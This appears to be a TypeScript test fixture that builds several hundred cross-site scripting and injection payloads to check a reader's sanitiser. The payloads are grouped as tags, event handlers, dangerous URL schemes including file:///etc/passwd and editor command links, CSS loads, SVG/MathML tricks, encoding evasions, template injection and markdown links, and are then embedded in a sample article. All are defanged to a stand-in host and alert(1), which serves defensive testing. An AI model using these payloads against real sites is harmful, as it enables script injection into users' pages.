/** Where a payload that gets through would load from; nothing may ever ask for it. */
export const TARGET = 'https://payload.invalid/hit';

/** What a payload that gets through would run: it leaves a mark on the window and opens a dialog. */
const RUN = 'window.seedReaderHit=1,alert(1)';

const ELEMENTS =
  'a audio base body button details div embed form frame frameset iframe image img input isindex link marquee math meta ' +
  'noscript object picture plaintext portal script select source style svg template textarea title track video xmp';

const EVENTS =
  'abort animationend animationstart beforeinput blur click contextmenu copy error focus focusin hashchange input ' +
  'keydown load loadstart message mouseenter mouseover pageshow pointerenter pointerover resize scroll toggle ' +
  'transitionend wheel';

const SCHEMES = [
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:'],
  ...['data:text/html,', 'data:image/svg+xml,', 'vbscript:', 'file:///etc/passwd?', 'command:workbench.action.quit?'],
  ...['vscode:', 'vscode-resource:', 'blob:', 'view-source:', 'http://x\u0001', 'https://x\u202e', 'mailto:\u0001'],
];

const words = (list: string): readonly string[] => list.split(' ');

function tags(): readonly string[] {
  return words(ELEMENTS).flatMap(name => [
    `<${name} src=${TARGET} href=${TARGET} data=${TARGET} onload=${RUN}>${RUN}</${name}>`,
    `<${name.toUpperCase()}/SRC="${TARGET}"/ONERROR='${RUN}'//`,
    `</${name}><${name} srcdoc="<script>${RUN}</script>" autofocus onfocus="${RUN}"`,
  ]);
}

function handlers(): readonly string[] {
  return words(EVENTS).flatMap(event => [
    `<img src=x: on${event}="${RUN}">`,
    `" on${event}="${RUN}" autofocus tabindex="0" x="`,
    `' on${event}='${RUN}' style='animation-name:x`,
  ]);
}

function addresses(): readonly string[] {
  return SCHEMES.flatMap(scheme => [
    `${scheme}${RUN}`,
    `<a href="${scheme}${RUN}">x</a>`,
    `[x](${scheme}${RUN})`,
    `<${scheme}![x](${TARGET})>`,
    `${scheme}![x](${TARGET})<img/src=${TARGET}>`,
    `<iframe src="${scheme}${RUN}">`,
  ]);
}

function styles(): readonly string[] {
  return [
    `<style>@import '${TARGET}';</style>`,
    `<div style="background:url(${TARGET})">`,
    `</style><img src=${TARGET}>`,
    `"; background: url(${TARGET}); x: "`,
    `serif; } * { background: url(${TARGET}) !important } x {`,
    `} @font-face { font-family: x; src: url(${TARGET}) } :root { --x: url(${TARGET})`,
    `\\22 ; background: \\75 rl(${TARGET})`,
    `/*</style><script>${RUN}</script>*/`,
    `expression(${RUN})`,
    `<link rel=stylesheet href=${TARGET}>`,
  ];
}

function pictures(): readonly string[] {
  return [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><image href="${TARGET}"/></svg>`,
    `<svg><use href="${TARGET}#x"/></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
    `<svg><animate attributeName=href values=javascript:${RUN}>`,
    `<svg><foreignObject><iframe src=${TARGET}></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  ];
}

function entities(): readonly string[] {
  return [
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;img src=x onerror=${RUN}&#62;`,
    `&#x3c;svg onload=${RUN}&#x3e;`,
    `&LT;img src=${TARGET}&GT;`,
    `&amp;lt;img src=${TARGET}&amp;gt;`,
    `&quot; onfocus=&quot;${RUN}`,
    `&Tab;&NewLine;&colon;&lpar;&nbsp;&#0;&#xD800;&#x110000;`,
    `\u003cscript>${RUN}\u003c/script>`,
    `\\u003cscript>${RUN}`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `\ufe64img src=${TARGET}\ufe65 ＜script＞`,
  ];
}

function breaks(): readonly string[] {
  const closing = words(`--> ]]> ?> %> </title> </style> </script> </textarea> </template> </noscript> </xmp> </body>`);
  return [
    ...closing.flatMap(end => [`${end}<script>${RUN}</script>`, `"'${end}<img src=${TARGET}>`]),
    ...[`"><script>${RUN}</script>`, `'><img src=${TARGET}>`, `\`><svg onload=${RUN}>`, `\0"><img src=${TARGET}>`],
    ...[
      `{{constructor.constructor('${RUN}')()}}`,
      `$${'{'}${RUN}}`,
      `#{${RUN}}`,
      `<%= ${RUN} %>`,
      `{0}{1}{9}`,
      `$&$1$\``,
    ],
    ...[
      `__proto__`,
      `constructor`,
      `<!--#include virtual="${TARGET}"-->`,
      `<?php ${RUN} ?>`,
      `<!DOCTYPE x SYSTEM "${TARGET}">`,
    ],
    ...[`![x](${TARGET})`, `![x][y]`, `[y]: ${TARGET}`, `[x]: javascript:${RUN}`, `<${TARGET}>`, `\\![x](${TARGET})`],
    ...[
      `| a | b |`,
      `~~~html`,
      `\`\`\`js ${RUN}`,
      `$$${RUN}$$`,
      `$(command:${TARGET})`,
      `$(sync~spin)`,
      `[^1]: ${RUN}`,
    ],
  ];
}

/** Known ways to make a page run or load something, by the way they go; several hundred. */
export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  tags: tags(),
  handlers: handlers(),
  addresses: addresses(),
  styles: styles(),
  pictures: pictures(),
  entities: entities(),
  breaks: breaks(),
};

/** An article that holds each payload wherever a text may hold one: as prose, quoted, as speaker, heading, caption and item. */
export function articleWith(payloads: readonly string[]): string {
  const parts = payloads.flatMap((payload, i) => [
    payload,
    `The pier near ${payload} was closed on Monday, the council said in a letter to ${payload}.`,
    `“We close the pier because of ${payload},” said Mara ${payload}, who keeps it. “It is ${payload}.”`,
    `"No," said Oskar Hale${i}, of ${payload}.`,
    `- ${payload}`,
    `The pier on Monday with ${payload}. (Photo by Jo ${payload}/Ellery Wire)`,
  ]);
  return ` date 2025-03-09 ${parts.join('\n\n')}\n`;
}
